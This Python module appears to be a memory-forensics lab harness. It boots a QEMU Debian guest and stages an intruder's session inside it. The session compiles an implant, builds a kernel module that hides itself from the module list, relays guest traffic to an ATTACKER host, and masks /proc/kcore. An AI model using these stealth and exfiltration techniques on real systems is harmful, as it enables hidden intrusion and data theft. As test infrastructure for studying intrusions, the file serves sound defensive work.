"""The guest of ``make guest``: a Debian kernel with the lab's small system, Python, one disk, and the intruder's session in it."""

from __future__ import annotations

import subprocess
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from lab.progress import wait_until
from lab.tools.memory import make_memory
from lab.tools.memory.debian import Archive
from lab.tools.memory.guest_files import build_initramfs, library
from lab.tools.memory.initramfs import Initramfs
from lab.tools.memory.kernel_image import kernel_file, plain
from lab.tools.memory.kernel_modules import modules_folder, with_dependencies
from lab.tools.memory.machines import AMD64, Machine
from lab.tools.memory.module_build import Builder, builder
from lab.tools.memory.vm import ATTACKER, FileServer, Guest, GuestError, Listener

MEMORY_MIB = 256
PYTHON = "python3.11"
PACKAGES = (f"{PYTHON}-minimal", f"lib{PYTHON}-minimal", f"lib{PYTHON}-stdlib", "libexpat1", "zlib1g")
LIBRARIES = ("libm.so.6", "libz.so.1", "libexpat.so.1", "libc.so.6")
LEFT_OUT = {
    "test", "idlelib", "lib2to3", "ensurepip", "pydoc_data", "distutils", "unittest", "asyncio", "curses", "__pycache__",
}  # fmt: skip
APPLETS = (
    "awk", "chmod", "cut", "dd", "df", "env", "head", "mkdir", "mkfifo", "mktemp", "mount", "mv", "sha256sum", "stat", "tee",
    "touch", "wc", "od", "sort", "cp", "kill", "sync", "setsid", "rmmod", "sed", "uniq", "umount",
)  # fmt: skip
RELAY = (
    "import socket,threading,sys\n"
    "def pump(a,b):\n"
    "    try:\n"
    "        while True:\n"
    "            d=a.recv(65536)\n"
    "            if not d: break\n"
    "            b.sendall(d)\n"
    "        b.shutdown(socket.SHUT_WR)\n"
    "    except OSError:\n"
    "        for e in (a,b):\n"
    "            try: e.shutdown(socket.SHUT_RDWR)\n"
    "            except OSError: pass\n"
    "s=socket.create_server(('127.0.0.1',int(sys.argv[1])))\n"
    "while True:\n"
    "    c=s.accept()[0]; t=socket.create_connection((sys.argv[2],int(sys.argv[3])))\n"
    "    for p in ((c,t),(t,c)): threading.Thread(target=pump,args=p,daemon=True).start()\n"
)
# The process group of every run's shell: nothing of it gets to clean up. The first field of `pid` is the shell.
KILL = (
    "for f in /run/fc.*/pid /dev/shm/fc.*/pid; do [ -f $f ] || continue; read -r p rest <$f;"
    " g=$(cut -d' ' -f5 /proc/$p/stat) && kill -9 -$g && echo $g; done; true"
)


@dataclass(frozen=True)
class Wanted:
    """How the guest is to be: its kernel's release, its lockdown mode, what hides /proc/kcore, and where kernels come from.

    ``host`` has the packages of this machine's architecture: the programs that compile modules for the kernel.
    """

    kernel: str
    lockdown: str = "none"
    mask_kcore: bool = False
    archive: Archive | None = None
    machine: Machine = AMD64
    host: Archive | None = None

    def builder(self, *, work: Path) -> Builder:
        """What modules for its kernel are made with. Raises ModuleError and NoKernelError where there are no headers of it."""
        return builder(self.kernel, machine=self.machine, archive=self.archive, host=self.host, work=work)

    @property
    def cmdline(self) -> str:
        """The kernel's command line (Linux, Documentation/admin-guide/kernel-parameters.txt, ``lockdown=``, ``no_timer_check``).

        A busy machine emulates timers too late for the kernel's check of them, which ends in a panic.
        """
        mode = "" if self.lockdown == "none" else f" lockdown={self.lockdown}"
        checks = "" if self.machine.foreign else " no_timer_check"
        return f"{make_memory.CMDLINE.format(console=self.machine.console)}{checks}{mode}"


def build(wanted: Wanted, *, work: Path) -> tuple[Path, Path]:
    """Kernel and initial file system with Python and a disk driver; returns their paths."""
    machine = wanted.machine
    root = make_memory.unpack_packages(wanted.kernel, work=work, archive=wanted.archive, machine=machine, more=PACKAGES)
    make_implant(work / "implant", machine=machine)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(work / "key")], check=True)
    initrd = build_initramfs(wanted.kernel, root=root, work=work, machine=machine)
    # The kernel unpacks one archive after the other into the same file system.
    initrd.write_bytes(initrd.read_bytes() + _more(wanted.kernel, root=root, machine=machine))
    return plain(kernel_file(root, wanted.kernel), into=work), initrd


def make_implant(target: Path, *, machine: Machine) -> None:
    """The intruder's program: compiled for this machine's architecture; for another one, which no compiler here makes, a script that
    runs from a deleted copy of the static bash, under the same name, with the same connection (and no page to write and execute)."""
    if machine.foreign:
        target.write_bytes((make_memory.HERE / "implant.sh").read_bytes())
        return
    source = make_memory.HERE / "implant.c"
    subprocess.run(["gcc", *make_memory.IMPLANT_FLAGS, "-o", str(target), str(source)], check=True)


def _more(kernel: str, *, root: Path, machine: Machine) -> bytes:
    fs = Initramfs(mtime=0)
    for applet in APPLETS:
        fs.symlink(f"bin/{applet}", "/bin/busybox")
    fs.file(f"usr/bin/{PYTHON}", root / f"usr/bin/{PYTHON}", mode=0o755)
    fs.symlink("usr/bin/python3", f"/usr/bin/{PYTHON}")
    modules = root / f"usr/lib/{PYTHON}"
    fs.directory("usr/lib")
    fs.directory(f"usr/lib/{PYTHON}")
    for path in sorted(modules.rglob("*")):
        name = path.relative_to(modules)
        if LEFT_OUT.isdisjoint(name.parts):
            target = f"usr/lib/{PYTHON}/{name}"
            fs.directory(target) if path.is_dir() else fs.file(target, path.resolve())
    for wanted in LIBRARIES:
        fs.file(f"{machine.libraries}/{wanted}", library(wanted, root=root, machine=machine), mode=0o755)
    disk = with_dependencies(("crc32c_generic", "ext4", "virtio_blk"), folder=modules_folder(root, kernel))
    for module, content in disk.items():
        fs.file(f"lib/modules/{module}.ko", content)
    fs.file("lib/modules/disk", "".join(f"{module}\n" for module in disk).encode())
    fs.directory("disk")
    return fs.pack()


class DiskGuest(Guest):
    """A guest with one disk; QEMU counts what is written to it."""

    def written(self) -> int:
        """Bytes that the guest has written to its disk since it was started."""
        found = self.qmp("query-blockstats")
        return sum(int(device["stats"]["wr_bytes"]) for device in found)

    def kill_sender(self) -> None:
        """Kill -9 every program of the run that is at work. GuestError when none was."""
        if not self.run(KILL).split():
            raise GuestError("no run of the capture document was there to be killed")

    def relay(self, port: int, gate: int) -> None:
        """What the guest sends to its own loopback at ``port`` goes to ``gate`` on this machine's."""
        subprocess.run([*self.ssh(), "cat > /run/relay.py"], input=RELAY.encode(), check=True)
        self.run(f"setsid python3 /run/relay.py {port} {ATTACKER} {gate} </dev/null >/dev/null 2>&1 &")


def hidden_module(made: Builder, *, work: Path) -> Path:
    """The intruder's module, which takes itself off the kernel's list."""
    source = work / "source"
    source.mkdir()
    for name in ("lab_hidden.c", "Kbuild"):
        (source / name).write_bytes((make_memory.HERE / name).read_bytes())
    (work / "hidden").mkdir()
    return made.build(source, into=work / "hidden")


@contextmanager
def guest(wanted: Wanted, *, work: Path, disk: Path, module: Path) -> Iterator[DiskGuest]:
    """Boot it, mount its disk where scripts would write, play the intruder's session, which fetches and loads ``module``."""
    kernel, initrd = build(wanted, work=work)
    machine = DiskGuest(
        work=work, kernel=kernel, initrd=initrd, key=work / "key", memory_mib=MEMORY_MIB,
        clock=time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime()), cmdline=wanted.cmdline, machine=wanted.machine,
        extra=["-drive", f"file={disk},format=raw,if=none,id=d0", "-device", "virtio-blk-pci,drive=d0"],
    )  # fmt: skip
    listener = Listener()
    listener.start()
    files = FileServer(module)
    machine.start()
    try:
        machine.wait_for_ssh()
        machine.run(
            "while read -r m; do [ -d /sys/module/$m ] || insmod /lib/modules/$m.ko; done </lib/modules/disk;"
            " mount -t ext4 /dev/vda1 /disk 2>/dev/null || mount -t ext4 /dev/vda /disk"
        )
        machine.run(
            "for d in tmp root/.cache var/tmp; do mkdir -p /disk/x/$d /$d; mount -o bind /disk/x/$d /$d; done; sync"
        )
        if wanted.mask_kcore:
            machine.run("mount -o bind /dev/null /proc/kcore")
        client = make_memory.play(machine)
        said = work / "session.out"
        wait_until(
            lambda: b"\nLinux ip-10-0-1-23 " in said.read_bytes(),
            what="the intruder's last command to answer",
            progress=lambda: said.stat().st_size,
            pause=0.5,
        )
        yield machine
        client.terminate()
    finally:
        machine.stop()
        listener.close()
        files.close()
